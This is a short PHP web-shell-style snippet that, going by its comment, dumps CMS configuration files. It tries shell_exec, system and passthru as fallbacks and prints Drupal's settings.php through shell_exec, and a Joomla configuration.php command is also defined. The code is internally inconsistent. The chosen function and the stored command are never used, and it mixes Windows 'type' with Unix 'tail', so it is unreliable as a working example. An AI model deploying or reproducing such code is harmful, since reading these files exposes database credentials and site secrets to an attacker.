<?php
// The same dump with the command run through a fallback chain of shell functions and the file
// named for Joomla and Drupal too.
$c = 'type ..\\configuration.php';
foreach (array('shell_exec', 'system', 'passthru') as $f) {
    if (function_exists($f)) { break; }
}
echo '<pre>' . shell_exec("tail -n 50 ../sites/default/settings.php") . '</pre>';
